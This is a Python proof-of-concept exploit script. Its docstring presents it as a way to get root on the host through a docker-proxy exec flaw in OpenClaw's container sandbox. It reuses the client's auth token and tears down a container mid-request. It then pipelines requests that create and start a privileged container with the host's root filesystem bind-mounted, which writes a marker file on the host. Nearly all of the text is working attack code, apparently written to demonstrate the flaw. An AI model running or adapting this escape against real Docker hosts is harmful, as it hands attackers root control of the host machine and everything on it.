"""The way to root on the host that docker-proxy's exec left open until 29 November 2026, as anybody with the token could use it.

A program for OpenClaw's container: `python sandbox_attacks.py IMAGE NETWORK NAME MARK`. If it succeeds, the host has a file MARK.
It needs DOCKER_HOST and DOCKER_CONFIG, like Docker's client.
"""

import http.client
import json
import os
import socket
import sys
import time
from pathlib import Path

_VERSION = "/v1.45"


def main(image: str, network: str, name: str, mark: str) -> None:
    host, _, port = os.environ["DOCKER_HOST"].removeprefix("tcp://").partition(":")
    headers = json.loads((Path(os.environ["DOCKER_CONFIG"]) / "config.json").read_text())["HttpHeaders"]

    def ask(method: str, path: str, body: object = None) -> tuple[int, bytes]:
        connection = http.client.HTTPConnection(host, int(port), timeout=30)
        text = None if body is None else json.dumps(body)
        connection.request(method, _VERSION + path, text, {**headers, "Content-Type": "application/json"})
        answer = connection.getresponse()
        return answer.status, answer.read()

    def written(path: str, body: object) -> bytes:
        text = json.dumps(body).encode() if body else b""
        lines = [f"POST {_VERSION}{path} HTTP/1.1", "Host: docker", *(f"{key}: {value}" for key, value in headers.items())]
        lines += ["Content-Type: application/json", f"Content-Length: {len(text)}", "", ""]
        return "\r\n".join(lines).encode() + text

    limits = {"Memory": 64 << 20, "NetworkMode": network}
    reply = ask("POST", f"/containers/create?name={name}", {"Image": image, "Cmd": ["sleep", "60"], "HostConfig": limits})
    print("create", reply, ask("POST", f"/containers/{name}/start"))
    status, text = ask("POST", f"/containers/{name}/exec", {"Cmd": ["true"]})
    print("exec", status)
    start = written(f"/exec/{json.loads(text)['Id']}/start", {"Detach": False})
    root = {
        "Image": image,
        "User": "0",
        "Cmd": ["sh", "-c", f"echo root > /host{mark}"],
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "NetworkMode": "none"},
    }
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(start[:-1])
        time.sleep(0.5)
        print("remove", ask("DELETE", f"/containers/{name}?force=1"))
        connection.sendall(
            start[-1:] + written(f"/containers/create?name={name}-root", root) + written(f"/containers/{name}-root/start", None)
        )
        try:
            while part := connection.recv(65536):
                print(part.decode(errors="replace"))
        except TimeoutError:
            print("no more")


if __name__ == "__main__":
    main(*sys.argv[1:])
